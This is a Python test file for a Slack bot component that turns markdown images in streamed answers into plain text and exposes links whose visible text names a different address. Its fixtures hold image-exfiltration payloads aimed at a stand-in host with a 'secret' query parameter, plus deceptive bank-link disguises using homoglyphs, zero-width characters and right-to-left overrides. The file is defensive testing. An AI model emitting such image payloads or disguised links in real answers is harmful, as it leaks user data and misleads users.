"""A picture in an answer becomes words and an address, however the answer comes in; all else stays as it is."""

from __future__ import annotations

import re
import time
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.slack.write.markdown.pictures import Pictures

EVIL = "https://evil.example/?q=secret"
PICTURES = {
    f"![a chart]({EVIL})": f"a chart ({EVIL})",
    f"before ![]({EVIL}) after": f"before picture ({EVIL}) after",
    f'![a chart]({EVIL} "title")': f"a chart ({EVIL})",
    f"![a chart](<{EVIL}>)": f"a chart ({EVIL})",
    f"![a\nchart](\n{EVIL} )": f"a chart ({EVIL})",
    f"[![badge]({EVIL})](https://a.example)": f"badge ({EVIL}) (https://a.example)",
    f"![a [b] c]({EVIL}(1))": f"a [b] c ({EVIL}(1))",
    f"` ![a chart]({EVIL})": f"` a chart ({EVIL})",
    f"``code` ![a chart]({EVIL})\n": f"``code` a chart ({EVIL})\n",
    f"a ` b\n![a chart]({EVIL}) `": f"a ` b\na chart ({EVIL}) `",
    f"```\ncode\n```\n![a chart]({EVIL})": f"```\ncode\n```\na chart ({EVIL})",
    f"    ```\n![a chart]({EVIL})": f"    ```\na chart ({EVIL})",
    f"``` a`b\n![a chart]({EVIL})": f"``` a`b\na chart ({EVIL})",
    f"- ```\n![a chart]({EVIL})": f"- ```\na chart ({EVIL})",
    f"- a\n  ```\n![a chart]({EVIL})": f"- a\n  ```\na chart ({EVIL})",
    f"> ```\n![a chart]({EVIL})": f"> ```\na chart ({EVIL})",
    f"```\n> ```\n```\n![a chart]({EVIL})": f"```\n> ```\n```\na chart ({EVIL})",
    f"> ```\n> ![a chart]({EVIL})": f"> ```\n> a chart ({EVIL})",
    f"words\n2. ```\n![a chart]({EVIL})": f"words\n2. ```\na chart ({EVIL})",
    f"```{'a' * 300}`\n![a chart]({EVIL})": f"```{'a' * 300}`\na chart ({EVIL})",
    f"![a chart][1]\n\n[1]: {EVIL}": f"!\\[a chart][1]\n\n[1]: {EVIL}",
    "Wow![1] Yes": "Wow!\\[1] Yes",
    f"![never ended]({EVIL}": f"!\\[never ended]({EVIL}",
    f"\\\\![a chart]({EVIL})": f"\\\\a chart ({EVIL})",
}
LINKS = {
    f"see [https://bank.example]({EVIL})": f"see https://bank.example ({EVIL})",
    f"[www.bank.com/login]({EVIL}) now": f"www.bank.com/login ({EVIL}) now",
    f"[Go to bank.com to pay]({EVIL})": f"Go to bank.com to pay ({EVIL})",
    "[https://bank.com](https://bank.com@evil.example/)": "https://bank.com (https://bank.com@evil.example/)",
    "[https://bank.com](https://evil.example\\@bank.com)": "https://bank.com (https://evil.example\\@bank.com)",
    "[https://bank.com](https://bank.com.evil.example)": "https://bank.com (https://bank.com.evil.example)",
    f"[**https://bank.com**](<{EVIL}>)": f"**https://bank.com** ({EVIL})",
    f"[![a](https://bank.com)]({EVIL})": f"a (https://bank.com) ({EVIL})",
    f"[https://bank.com][1]\n\n[1]: {EVIL}": f"\\[https://bank.com][1]\n\n[1]: {EVIL}",
    f"[bank\\.com]({EVIL})": f"bank\\.com ({EVIL})",
    f"[bank.**com**]({EVIL})": f"bank.**com** ({EVIL})",
    f"[https:/**/bank.com**]({EVIL})": f"https:/**/bank.com** ({EVIL})",
    f"[bank&#46;com]({EVIL})": f"bank&#46;com ({EVIL})",
    f"[bank\u200b.com]({EVIL})": f"bank\u200b.com ({EVIL})",
    f"[ｂａｎｋ．com]({EVIL})": f"ｂａｎｋ．com ({EVIL})",
    f"[\u202emoc.knab]({EVIL})": f"\u202emoc.knab ({EVIL})",
    f"[_bank_.com]({EVIL})": f"_bank_.com ({EVIL})",
    f"[bank.com]\n\n[bank.com]: {EVIL}": f"[bank.com]\n\n\\[bank.com]: {EVIL}",
    f"[https://bank.com{' ' * 600}]({EVIL})": f"\\[https://bank.com{' ' * 600}]({EVIL})",
}
UNCHANGED = [
    "[https://bank.com](https://bank.com/login), [bank.com](https://www.bank.com), [bank.com](http://docs.bank.com/a)",
    "[the bank](https://bank.com), [notes.md](https://a.example/notes.md), [ask@bank.com](mailto:ask@bank.com)",
    f"`[https://bank.com]({EVIL})`, [1], [x, [y]], a[0](b), [https://bank.com]",
    "No picture! [a link](https://a.example), 5! = 120, !important, ![",
    f"`![a chart]({EVIL})`",
    f"``a ` ![a chart]({EVIL})``",
    f"```md\n![a chart]({EVIL})\n```",
    f"~~~\n![a chart]({EVIL})\n```\n![a chart]({EVIL})\n~~~~\n",
    f"- ```\n  ![a chart]({EVIL})\n  ```\n",
    f"1. Put this first:\n   ```md\n   ![a chart]({EVIL})\n\n   words\n   ```\n",
    f"```\n```\n- a\n- ```\n  code\n  ```\n~~~\n![a chart]({EVIL})\n~~~\n",
    f"\\![a chart]({EVIL})",
    "a\\\nb\\",
    "[my\\_host.com](https://my_host.com/a), [my_host.com](https://my_host.com), [**bank.com**](https://bank.com)",
    "[1]: https://a.example\n[a & b](https://a.example), [naïve](https://a.example), [a*b](https://a.example)",
]
UNCHANGED[3] = UNCHANGED[3].removesuffix(", ![")


def shown(text: str, *cuts: int) -> str:
    pictures = Pictures()
    places = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    pieces = [text[start:end] for start, end in pairwise(places)]
    return "".join([*map(pictures.feed, pieces), pictures.close()])


@pytest.mark.parametrize("text", PICTURES)
def test_a_picture_is_words_and_an_address(text: str) -> None:
    assert shown(text) == PICTURES[text]
    assert shown(text, *range(len(text))) == PICTURES[text]


@pytest.mark.parametrize("text", LINKS)
def test_a_link_whose_words_show_another_address_is_words_and_an_address(text: str) -> None:
    assert shown(text) == LINKS[text]
    assert shown(text, *range(len(text))) == LINKS[text]


@given(
    st.lists(st.sampled_from(["[", "![", "](", ")", "]", "https://a.com", "https://b.org/x", " ", "\n", "`", "\\"])),
    st.lists(st.integers(0, 1_000), max_size=8),
)
def test_how_links_come_in_makes_no_difference(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    assert shown(text, *cuts) == shown(text)


@pytest.mark.parametrize("text", UNCHANGED)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert shown(text) == text
    assert shown(text, *range(len(text))) == text


@given(st.text('![]()`~\\ \n<>"ab>-', max_size=60), st.lists(st.integers(0, 100), max_size=8))
def test_how_the_answer_comes_in_makes_no_difference(text: str, cuts: list[int]) -> None:
    assert shown(text, *cuts) == shown(text)


@given(st.text("![]() a", max_size=60))
def test_no_picture_is_left(text: str) -> None:
    assert not re.search(r"(?<!\\)!\[[^\]]*\]\(", shown(text))


@given(
    st.lists(
        st.tuples(
            st.sampled_from(["", " ", "  ", "   ", "    ", "> ", ">", "- ", "1. ", "2. ", "\t", "- - ", "> - "]),
            st.sampled_from(
                ["```", "~~~", "````", "```md", "``` `", "a", "", f"![a]({EVIL})", f"``` ![a]({EVIL})", "`"]
            ),
        ),
        max_size=9,
    )
)
def test_no_picture_is_left_whatever_looks_like_code_around_it(lines: list[tuple[str, str]]) -> None:
    text = shown("\n".join(before + words for before, words in lines))
    inline = [token for token in MarkdownIt().parse(text) if token.type == "inline"]
    assert "image" not in {child.type for token in inline for child in token.children or ()}


@pytest.mark.parametrize("unit", ["![", "`", "![a](", "`a``b", "\\", "!", "```\n", "![a](b", "[", "![[]"])
def test_work_grows_with_the_text(unit: str) -> None:
    def seconds(chars: int) -> float:
        text = (unit * chars)[:chars]
        started = time.process_time()
        shown(text, *range(0, chars, 7))
        return time.process_time() - started

    seconds(1_000)
    assert seconds(40_000) < 30 * max(seconds(4_000), 0.02)


def test_what_may_be_a_picture_does_not_wait_for_long() -> None:
    for begun in ("![", "![a](", "[https://a.com](", "`"):
        assert Pictures().feed(begun + "a" * 200) == ""
        assert len(Pictures().feed(begun + "a" * 5_000)) >= 5_000
